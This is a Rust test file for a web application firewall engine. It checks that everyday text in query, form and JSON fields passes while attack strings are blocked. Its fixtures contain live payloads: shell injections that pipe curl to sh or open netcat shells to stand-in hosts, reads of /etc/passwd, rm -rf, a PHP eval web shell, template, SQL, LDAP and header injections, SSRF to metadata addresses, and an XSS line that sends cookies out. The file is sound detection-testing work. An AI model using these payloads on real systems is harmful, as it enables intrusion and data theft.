//! What people write every day passes, and an attack of the same shape is refused: the whole verdict,
//! for each line as a query parameter, a form's field and a string in JSON.

use threat_agent_engine::{Action, Body, Config, Engine, LocalState, Request};

#[derive(Clone, Copy, PartialEq, Debug)]
enum Place {
    Query,
    Form,
    Json,
}

const EVERYWHERE: [Place; 3] = [Place::Query, Place::Form, Place::Json];

fn is_refused(engine: &Engine, place: Place, text: &str) -> (bool, String) {
    let encoded: String = text.bytes().map(|b| format!("%{b:02x}")).collect();
    let field = format!("note={encoded}");
    let json = serde_json::json!({ "note": text }).to_string();
    let (headers, body): (&[u8], &[u8]) = match place {
        Place::Query => (b"", b""),
        Place::Form => (
            b"Content-Type: application/x-www-form-urlencoded\r\n",
            field.as_bytes(),
        ),
        Place::Json => (b"Content-Type: application/json\r\n", json.as_bytes()),
    };
    let verdict = engine.inspect(
        &Request {
            method: if place == Place::Query {
                b"GET"
            } else {
                b"POST"
            },
            path: b"/notes",
            query: if place == Place::Query {
                field.as_bytes()
            } else {
                b""
            },
            headers,
            body: Body {
                bytes: body,
                ..Body::default()
            },
            ..Request::default()
        },
        &LocalState::default(),
        1,
    );
    let told = format!("{:.3} {}", verdict.score, verdict.reason);
    (verdict.action == Action::Block, told)
}

/// Judges every line in every one of the places; names all that are judged otherwise.
fn expect(refused: bool, places: &[Place], lines: &[&str]) {
    let engine = Engine::new(Config::default()).unwrap();
    let mut wrong = Vec::new();
    for line in lines {
        for place in places {
            let (got, told) = is_refused(&engine, *place, line);
            if got != refused {
                wrong.push(format!("{place:?} {line}: {told}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn words_behind_an_attack_do_not_hide_it() {
    expect(
        true,
        &EVERYWHERE,
        &[
            "8.8.8.8;curl http://198.51.100.7/x|sh #please show the address of the host now and again",
            "8.8.8.8;cat /etc/passwd #please show the address of the host now and again",
            "8.8.8.8|nc 198.51.100.7 4444 -e sh #please show the address of the host now and again",
            "8.8.8.8;id #please show the address of the host now and again",
            "8.8.8.8`id` please show the address of the host now and again",
            "8.8.8.8&&rm -rf / #please show the address of the host now and again",
            "$(curl http://198.51.100.7/x.sh|sh) aa bb cc dd ee ff gg hh ii jj kk",
            "eval($_POST['x']);//aa bb cc dd ee ff gg hh ii jj kk ll mm",
            "require('child_process').exec('id') // please show the address of the host now and again",
            "system('id'); // please show the address of the host now and again",
            "{{7*7}} please show the address of the host now and again",
            "{{config.items()}} please show the address of the host now and again",
            "php://filter/convert.base64-encode/resource=index.php aa bb cc dd ee ff gg",
            "file:///etc/passwd#aa bb cc dd ee ff gg hh ii jj kk ll mm nn oo",
            "*)(uid=*))(|(uid=* please show the address of the host now and again",
            "<form action=//a.example><input name=p><button>aa bb cc dd ee ff gg hh ii jj kk",
            "8.8.8.8;curl http://198.51.100.7/x.sh|sh\n\n#xxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            "10.0.0.5;bash -i\n\nfirst line\nsecond line\nthird line",
            "${7*7} and then some words that nobody needs to read here at all",
        ],
    );
}

#[test]
fn no_words_make_a_parameter_of_a_url_a_text() {
    let attack = "please show me the address of this host;curl http://198.51.100.7/x.sh|sh";
    expect(true, &[Place::Query], &[attack]);
}

#[test]
fn texts_tell_about_commands_and_code() {
    expect(
        false,
        &[Place::Form, Place::Json],
        &[
            "To see what is in the folder we ran `ls -la` and then {{ user.name }} was there",
            "Complete this function:\n```python\n\ndef f(a):\n    return system(a)\n```\n",
            "Write a short script for me that starts with:\n\n```sh\ncurl https://a.example/x | sh\n```",
        ],
    );
    expect(
        false,
        &EVERYWHERE,
        &["query Q($id: ID!, $where: UserFilter) {\n  user(id: $id) {\n    orders(where: $where) { id }\n  }\n}"],
    );
}

#[test]
fn lists_name_programs() {
    expect(
        false,
        &EVERYWHERE,
        &[
            "Date & time",
            "Books & more",
            "Books, Games & more",
            "Lost & find",
            "Dog & cat",
            "dog | cat",
            "Home | more",
            "Terms; date",
            "sort: name; type; date",
            "100% off; 50% & more",
            "Q&A; host",
            "gross | net",
            "head & tail",
            "start | stop | set",
            "Fish & chips; call 555-1234",
            "Bath & sleep",
            "Ruby & Node",
            "PHP, Ruby & Node",
            "html|css|php",
            "python;ruby;php",
            "skills: python; ruby; php",
            "PHP|Ruby",
            "Nice PHP tutorial",
            "Golf | Tee times",
            "VA; NC; SC",
            "Learn PHP; Python 3 & Node 18",
            "Home | last 7 days",
            "Tom's Books (used) & more",
        ],
    );
    expect(
        true,
        &EVERYWHERE,
        &[
            "8.8.8.8;id",
            "1 | id",
            "a.example;ls",
            "localhost|id",
            ";id",
            "|ls",
            "x;id|",
            "x | whoami",
            "x;cat /etc/passwd",
            "x; cat secret.txt",
            "x;sleep 10",
            "x & ping 10.0.0.1",
            "'; id",
            "x\nwhoami",
            "a b c;cat /etc/passwd",
            "please see this; curl http://a.example/x.sh | sh",
        ],
    );
}

#[test]
fn searches_quote_programs() {
    let searched = [
        "%node%",
        "%php%",
        "%perl%",
        "%curl%",
        "\"php\"",
        "'node'",
        "\"curl\"",
        "\"hostname\"",
    ];
    expect(false, &EVERYWHERE, &searched);
    let probes = ["%ipconfig%", "'whoami'", "\"; cat /etc/passwd", "'|id"];
    expect(true, &EVERYWHERE, &probes);
}

#[test]
fn sentences_and_code_name_tags() {
    expect(
        false,
        &EVERYWHERE,
        &[
            "How do I center a <div>?",
            "Missing </div> in header.html",
            "Use the <div> element",
            "the <body> tag",
            "fix(ui): replace <table> by grid",
            "<svg> icons are blurry",
            "Select <Button> to go on",
            "press <Select> or <Start>",
            "Dear <title> <name>,",
            "fill in <name> and <form>",
            "Map<String, List<Button>>",
            "Optional<Form> form = repo.find(id);",
            "List<Label> labels",
            "std::vector<Font> fonts;",
            "useRef<Video>(null)",
            "<item id=\"4\">",
            "<Route path=\"/x\">",
            "<a href=\"https://example.com\">x",
        ],
    );
    expect(
        true,
        &EVERYWHERE,
        &[
            "</form><form action=\"https://a.example/\">",
            "<form action=//a.example><button>",
            "<base href=\"//a.example/\">",
            "<meta http-equiv=refresh content=\"0;url=//a.example\">",
            "x</title>",
        ],
    );
}

#[test]
fn functions_are_looked_up() {
    expect(
        false,
        &EVERYWHERE,
        &[
            "substring(",
            "concat(",
            "convert(",
            "version(",
            "user(",
            "char(",
            "cast(",
            "upper(",
            "coalesce(",
            "ascii(",
        ],
    );
    expect(true, &EVERYWHERE, &["sleep(", "pg_sleep(", "updatexml("]);
}

#[test]
fn links_climb() {
    let links = [
        "https://example.com/docs/../index.html",
        "https://app.example/a/../b?x=1",
    ];
    expect(false, &EVERYWHERE, &links);
    let ends = "https://a.example/x/../";
    expect(true, &[Place::Query, Place::Form], &[ends, "../../../x"]);
}

#[test]
fn statements_copy_files_and_people_do() {
    expect(
        true,
        &EVERYWHERE,
        &[
            "COPY users TO '/var/www/html/x.php'",
            "copy users from '/etc/passwd'",
            "copy (select 1) to '/var/www/x.php'",
            "COPY t FROM PROGRAM 'id'",
            "COPY app FROM '/srv/app';",
            "7 union-- ",
        ],
    );
    expect(
        false,
        &EVERYWHERE,
        &[
            "Copy files from '/mnt/data' to the backup drive",
            "COPY app FROM '/srv/app'",
            "copy table from 'A' to 'B'",
            "2 union -- the best",
        ],
    );
}

#[test]
fn settings_name_hosts_and_commands() {
    expect(
        false,
        &[Place::Form, Place::Json],
        &[
            "fix: run `rm -rf node_modules && npm i` before build",
            "Agenda\nDate: 5 May\nLocation: Room 5\nHost: Anna\nStatus: open",
            "index=web status=500 | stats count by host | head 10",
        ],
    );
    expect(
        false,
        &[Place::Json],
        &[
            "http://jenkins.internal:8080/github-webhook/",
            "ldaps://ldap.example.com:636",
            "#!/bin/sh\nset -e\nexec node server.js\n",
            "IyEvYmluL3NoCnNldCAtZQpleGVjIG5vZGUgc2VydmVyLmpzCg==",
            "Subject: Hello\nTo: a@b.example\n\nHi there",
        ],
    );
    expect(
        true,
        &EVERYWHERE,
        &[
            "http://127.0.0.1:9200/_search",
            "http://017700000001/",
            "http://[::ffff:169.254.169.254]/",
            "1&#39; OR &#39;1&#39;=&#39;1",
            "8.8.8.8\nid",
            "x\r\nX-Admin: true",
        ],
    );
}

#[test]
fn templates_hold_places_for_data() {
    expect(
        false,
        &EVERYWHERE,
        &[
            "{{ order.total }}",
            "{{ product.title }} for {{ product.price | money }}",
            "{{ 'cart.title' | t }}",
            "{{ config.title }}",
            "{{ request.body.id }}",
            "${project.version}",
            "${{ github.event.pull_request.number }}",
            "{% for p in products %}{{ p.title }}{% endfor %}",
            "<%= first_name %>",
            "{{count}} of {{total}}",
        ],
    );
    expect(
        true,
        &EVERYWHERE,
        &[
            "{{config}}",
            "{{ settings.SECRET_KEY }}",
            "{{ ''.__class__ }}",
            "{{ x.items() }}",
            "${7*7}",
            "{'id'|system}",
            "{% for k in config.items() %}{{ k }}{% endfor %}",
        ],
    );
}

#[test]
fn programs_report_their_errors() {
    expect(
        false,
        &EVERYWHERE,
        &[
            "java.lang.NullPointerException: null\n\tat com.example.A.b(A.java:4)\n\tat java.lang.Thread.run(Thread.java:8)",
            "org.hibernate.exception.ConstraintViolationException: could not execute statement",
            "java.util.concurrent.TimeoutException",
            "org.springframework.web",
        ],
    );
    let call = "java.io.IOException java.lang.Runtime.getRuntime().exec('id')";
    expect(true, &EVERYWHERE, &["java.lang.Runtime", call]);
}

#[test]
fn components_name_their_handlers() {
    expect(
        false,
        &EVERYWHERE,
        &[
            "<Button variant=\"primary\" onClick={save}>Save</Button>",
            "<Foo onClick={() => setOpen(true)} />",
            "<p><input type=\"checkbox\" disabled checked> Done</p>",
        ],
    );
    expect(
        true,
        &EVERYWHERE,
        &[
            "<img src=x onerror={alert(1)}>",
            "';new Image().src='//a.example/?'+document.cookie;//",
            "\";location.href='//a.example'//",
        ],
    );
}
